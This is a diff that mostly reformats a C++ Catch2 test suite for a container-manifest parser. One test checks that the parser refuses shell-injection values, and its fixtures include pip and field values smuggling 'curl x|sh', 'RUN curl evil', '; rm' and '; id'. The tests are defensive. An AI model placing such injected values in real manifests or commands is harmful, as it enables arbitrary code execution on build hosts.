@@ -1,7 +1,7 @@
+#include "core/manifest.hpp"
+
 #include <catch2/catch_test_macros.hpp>
 #include <catch2/matchers/catch_matchers_string.hpp>
-
-#include "core/manifest.hpp"
 
 using namespace td;
 using Catch::Matchers::ContainsSubstring;
@@ -49,8 +49,13 @@ TEST_CASE("unknown keys get a did-you-mean with file:line:col and JSON path") {
   "matrix": {"torch": ["2.4.1"], "cuda": ["cu121"], "flavour": ["runtime"], "os": ["ubuntu22.04"]},
   "targt_gpus": ["H100"]
 })");
-    CHECK_THAT(e, ContainsSubstring("m.json:3:53: $.matrix.flavour: unknown key \"flavour\"; did you mean \"flavor\"?"));
-    CHECK_THAT(e, ContainsSubstring("m.json:4:3: $.targt_gpus: unknown key \"targt_gpus\"; did you mean \"target_gpus\"?"));
+    CHECK_THAT(
+        e, ContainsSubstring(
+               "m.json:3:53: $.matrix.flavour: unknown key \"flavour\"; did you mean \"flavor\"?"));
+    CHECK_THAT(
+        e,
+        ContainsSubstring(
+            "m.json:4:3: $.targt_gpus: unknown key \"targt_gpus\"; did you mean \"target_gpus\"?"));
     CHECK_THAT(e, ContainsSubstring("missing axis \"flavor\""));
 }
 
@@ -64,10 +69,11 @@ TEST_CASE("every problem in a file is reported in one pass") {
   "env": {"BAD-NAME": "x", "OK": "line\nbreak"},
   "python": "2.7"
 })");
-    for (const char* want : {"$.schema: unsupported schema 2", "$.name: bad name", "$.matrix.torch[0]",
-                             "$.matrix.cuda[0]", "$.matrix.flavor[0]", "$.pip[0]", "$.pip[1]: only exact pins",
-                             "$.apt[0]: missing exact version", "$.user.name", "$.user.uid",
-                             "$.env[\"BAD-NAME\"]", "$.env.OK: control character \"\\n\"", "$.python"})
+    for (const char* want :
+         {"$.schema: unsupported schema 2", "$.name: bad name", "$.matrix.torch[0]",
+          "$.matrix.cuda[0]", "$.matrix.flavor[0]", "$.pip[0]", "$.pip[1]: only exact pins",
+          "$.apt[0]: missing exact version", "$.user.name", "$.user.uid", "$.env[\"BAD-NAME\"]",
+          "$.env.OK: control character \"\\n\"", "$.python"})
         CHECK_THAT(e, ContainsSubstring(want));
 }
 
@@ -80,24 +86,37 @@ TEST_CASE("shell injection in manifest values is refused before rendering") {
     };
     CHECK_THAT(with_pip(R"("numpy==1.26; curl x|sh")"), ContainsSubstring("$.pip[0]"));
     CHECK_THAT(with_pip(R"("numpy==1.26\nRUN curl evil")"), ContainsSubstring("$.pip[0]"));
-    CHECK_THAT(with_pip(R"("numpy==1.26.4", "numpy==1.26.4")"), ContainsSubstring("duplicate entry"));
-    CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"Evil Image; rm","base":"ngc","matrix":{"ngc":["24.05"]}})"),
-               ContainsSubstring("$.image"));
-    CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"]},"description":"x\ny"})"),
-               ContainsSubstring("$.description: control character"));
-    CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"]},"openmpi":"4.1; id"})"),
-               ContainsSubstring("$.openmpi"));
+    CHECK_THAT(with_pip(R"("numpy==1.26.4", "numpy==1.26.4")"),
+               ContainsSubstring("duplicate entry"));
+    CHECK_THAT(
+        parse_errors(
+            R"({"schema":1,"name":"f","image":"Evil Image; rm","base":"ngc","matrix":{"ngc":["24.05"]}})"),
+        ContainsSubstring("$.image"));
+    CHECK_THAT(
+        parse_errors(
+            R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"]},"description":"x\ny"})"),
+        ContainsSubstring("$.description: control character"));
+    CHECK_THAT(
+        parse_errors(
+            R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"]},"openmpi":"4.1; id"})"),
+        ContainsSubstring("$.openmpi"));
 }
 
 TEST_CASE("axes must fit the base kind") {
-    CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"],"flavor":["devel"]}})"),
-               ContainsSubstring("$.matrix.flavor: the \"flavor\" axis does not apply to base \"ngc\""));
+    CHECK_THAT(
+        parse_errors(
+            R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"],"flavor":["devel"]}})"),
+        ContainsSubstring("$.matrix.flavor: the \"flavor\" axis does not apply to base \"ngc\""));
     CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"a/b","base":"cuda","matrix":{}})"),
                ContainsSubstring("$.base: \"cuda\" is not one of"));
-    CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"a/b","base":"debian-torch","matrix":{"os":["debian12"]},"target_gpus":["H100"]})"),
-               ContainsSubstring("CPU-only"));
-    CHECK_THAT(parse_errors(R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"],"exclude":[{"ngc":"99.99"}]}})"),
-               ContainsSubstring("is not a value of matrix.ngc"));
+    CHECK_THAT(
+        parse_errors(
+            R"({"schema":1,"name":"f","image":"a/b","base":"debian-torch","matrix":{"os":["debian12"]},"target_gpus":["H100"]})"),
+        ContainsSubstring("CPU-only"));
+    CHECK_THAT(
+        parse_errors(
+            R"({"schema":1,"name":"f","image":"a/b","base":"ngc","matrix":{"ngc":["24.05"],"exclude":[{"ngc":"99.99"}]}})"),
+        ContainsSubstring("is not a value of matrix.ngc"));
 }
 
 TEST_CASE("missing required keys and wrong types") {
